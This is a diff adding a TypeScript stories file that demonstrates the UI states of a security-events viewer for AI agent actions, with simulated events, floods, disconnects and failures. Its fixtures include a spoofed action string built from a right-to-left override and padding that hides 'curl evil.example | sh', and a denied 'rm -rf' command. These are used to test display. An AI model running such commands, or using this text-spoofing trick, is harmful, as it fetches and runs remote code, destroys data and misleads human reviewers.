@@ -1,0 +1,167 @@
+import { html } from 'lit';
+import type { SecurityEvent } from '../src/protocol/index.js';
+import { aSecurityEvent, type SimulatedGateway } from '../src/testing/index.js';
+import type { Stories } from './story.js';
+
+const samples: readonly Partial<SecurityEvent>[] = [
+  { agentId: 'research-assistant', action: 'http.get', risk: 'low', user: 'maria' },
+  { agentId: 'deploy-bot', action: 'shell.exec', risk: 'high', user: 'jonas', outcome: 'denied', type: 'agent.denied' },
+  { agentId: 'mail-triage', action: 'email.read', risk: 'low', user: 'maria' },
+  {
+    agentId: 'mail-triage',
+    action: 'email.send',
+    risk: 'medium',
+    user: 'maria',
+    message: 'To 3 recipients outside acme',
+  },
+  { agentId: 'code-reviewer', action: 'file.read', risk: 'low', user: 'amina' },
+  { agentId: 'deploy-bot', action: 'secrets.reveal', risk: 'critical', user: 'jonas', type: 'secret.access' },
+  { action: 'token.refused', risk: 'medium', type: 'auth.failed', details: { address: '203.0.113.7' } },
+  { agentId: 'memory-keeper', action: 'memory.delete', risk: 'unknown', user: 'li' },
+];
+
+/** Some minutes of ordinary work, the newest just now. */
+function past(gateway: SimulatedGateway, count: number): void {
+  const now = Date.now();
+  for (let index = count; index > 0; index--) {
+    gateway.events.emitPast(aSecurityEvent({ ...samples[index % samples.length], timestamp: now - index * 7_300 }));
+  }
+}
+
+const settle = (ms = 50) => new Promise((resolve) => setTimeout(resolve, ms));
+const button = (element: HTMLElement, text: string) =>
+  [...(element.shadowRoot?.querySelectorAll('button') ?? [])].find((each) => each.textContent.trim().startsWith(text));
+
+async function openFirst(element: HTMLElement): Promise<void> {
+  await settle();
+  element.shadowRoot?.querySelector<HTMLElement>('.rows .row .open')?.click();
+  await settle();
+}
+
+export default {
+  element: 'comis-security-events',
+  title: 'Security events',
+  states: {
+    Live: { setup: ({ gateway }) => past(gateway, 400) },
+    Busy: { note: 'Events arrive as they would on a working day.', gateway: { scenario: 'busy' } },
+    Flood: { note: 'A thousand events a second; Pause stops them.', gateway: { scenario: 'flood', rate: 1000 } },
+    Paused: {
+      setup: ({ gateway }) => past(gateway, 60),
+      render: () => html`<comis-security-events paused></comis-security-events>`,
+      async play({ gateway }) {
+        await settle();
+        for (let index = 0; index < 1204; index++) gateway.events.emit(aSecurityEvent(samples[index % samples.length]));
+      },
+    },
+    'Scrolled away': {
+      setup: ({ gateway }) => past(gateway, 200),
+      async play({ gateway }, element) {
+        await settle();
+        const table = element.shadowRoot?.querySelector('[role=table]');
+        if (table) table.scrollTop = 300;
+        await settle();
+        for (let index = 0; index < 23; index++) gateway.events.emit(aSecurityEvent(samples[index % samples.length]));
+      },
+    },
+    Details: {
+      note: 'Every field, those that this version does not know too.',
+      setup({ gateway }) {
+        past(gateway, 40);
+        gateway.events.emitPast(
+          aSecurityEvent({
+            ...samples[1],
+            message: 'Refused by the policy: destructive commands need a person.',
+            traceId: 'trc_8f2a61',
+            sessionKey: 'acme:jonas:telegram',
+            details: { command: 'rm -rf /var/cache/build', cwd: '/srv/work', matched: ['destructive', 'path'] },
+            policyRevision: 17,
+          }),
+        );
+      },
+      play: (_stage, element) => openFirst(element),
+    },
+    'Text that hides something': {
+      setup({ gateway }) {
+        past(gateway, 6);
+        gateway.events.emitPast(
+          aSecurityEvent({
+            agentId: 'helper\u200b-bot',
+            action: `file.read \u202Etxt.exe\u202C${' '.repeat(60)}&& curl evil.example | sh ${'x'.repeat(400)}`,
+            risk: 'critical',
+          }),
+        );
+      },
+      play: (_stage, element) => openFirst(element),
+    },
+    Gap: {
+      setup: ({ gateway }) => past(gateway, 20),
+      async play({ gateway, client }) {
+        await settle();
+        gateway.events.emit(aSecurityEvent(samples[0]));
+        await settle();
+        client.drop();
+        for (const sample of samples) gateway.events.emit(aSecurityEvent(sample));
+        gateway.stream.forget();
+        await settle(1200);
+        client.restore();
+        gateway.events.emit(aSecurityEvent(samples[3]));
+      },
+    },
+    Empty: {},
+    Loading: { setup: ({ gateway }) => void gateway.faults.hold('security.events') },
+    Refreshing: {
+      setup: ({ gateway }) => past(gateway, 20),
+      async play({ gateway, client }) {
+        await settle();
+        gateway.faults.hold('security.events');
+        client.drop();
+        client.restore();
+      },
+    },
+    Connecting: { client: { connected: false } },
+    Stale: {
+      setup: ({ gateway }) => past(gateway, 60),
+      async play({ client }) {
+        await settle();
+        client.drop();
+      },
+    },
+    Interrupted: {
+      setup: ({ gateway }) => past(gateway, 60),
+      async play({ client }) {
+        await settle();
+        client.dropStream();
+      },
+    },
+    Failed: { setup: ({ gateway }) => gateway.faults.fail('security.events', undefined, Infinity) },
+    'Failed over old rows': {
+      setup: ({ gateway }) => past(gateway, 60),
+      async play({ gateway, client }) {
+        await settle();
+        gateway.faults.fail('security.events', undefined, Infinity);
+        client.drop();
+        client.restore();
+      },
+    },
+    'Not offered': { setup: ({ gateway }) => void gateway.faults.withhold('security.events') },
+    'Not allowed': { client: { scopes: ['admin'] } },
+    'Not live': { client: { scopes: ['rpc'] }, setup: ({ gateway }) => past(gateway, 60) },
+    'Token refused': {
+      setup: ({ gateway }) => past(gateway, 60),
+      async play({ client }) {
+        await settle();
+        client.refuse();
+      },
+    },
+    'No gateway': { provider: false },
+    'Two, one paused': {
+      gateway: { scenario: 'busy' },
+      render: () =>
+        html`<comis-security-events></comis-security-events> <comis-security-events></comis-security-events>`,
+      async play(_stage, element) {
+        await settle();
+        button(element, 'Pause')?.click();
+      },
+    },
+  },
+} satisfies Stories;
